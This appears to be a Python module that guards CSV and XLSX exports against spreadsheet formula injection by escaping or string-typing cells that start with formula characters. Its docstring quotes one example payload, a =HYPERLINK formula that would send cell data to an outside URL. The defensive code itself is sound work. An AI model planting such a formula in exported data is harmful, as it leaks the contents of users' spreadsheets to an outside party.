"""Text in the CSV and XLSX files people open in spreadsheets: never run as a formula.

A cell starting with =, +, -, @, a tab or a carriage return may be taken for a formula by
Excel or LibreOffice (a household named =HYPERLINK("http://…?d="&A1) would send the sheet
away). In CSV such text gets a leading apostrophe, which spreadsheets show as text and
`restored` takes off again, so the catalogue's import reads its export back exactly; in XLSX
it is typed as a string, which no spreadsheet evaluates. Numbers ("-12,50") stay as they are.
XLSX (XML) cannot hold control characters: they are left out rather than fail the file.
"""

import re

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = "=+-@\t\r"
ESCAPE = "'"
NUMBER = re.compile(r"[-+]?[0-9]+(?:[.,][0-9]+)?")


def may_run(text: str) -> bool:
    return bool(text) and text[0] in FORMULA_TRIGGERS and not NUMBER.fullmatch(text)


def needs_escape(text: str) -> bool:
    """Text a spreadsheet could run, or text that would read back as escaped."""
    return may_run(text) or (
        text[:1] == ESCAPE and text[1:2] != "" and text[1] in FORMULA_TRIGGERS + ESCAPE
    )


def csv_cell(value):
    """A CSV cell: text that a spreadsheet could run gets its apostrophe."""
    if isinstance(value, str) and needs_escape(value):
        return ESCAPE + value
    return value


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]


def restored(text: str) -> str:
    """A CSV cell as it was before `csv_cell`."""
    if text[:1] == ESCAPE and text[1:2] != "" and text[1] in FORMULA_TRIGGERS + ESCAPE:
        return text[1:]
    return text


def xlsx_cell(sheet, value, cell=None):
    """`value` for a write-only sheet (in `cell` if given, to keep its style): text never a
    formula, never a control character."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        if may_run(value) and cell is None:
            cell = WriteOnlyCell(sheet)
    if cell is None:
        return value
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would store "=…" as a formula
    return cell
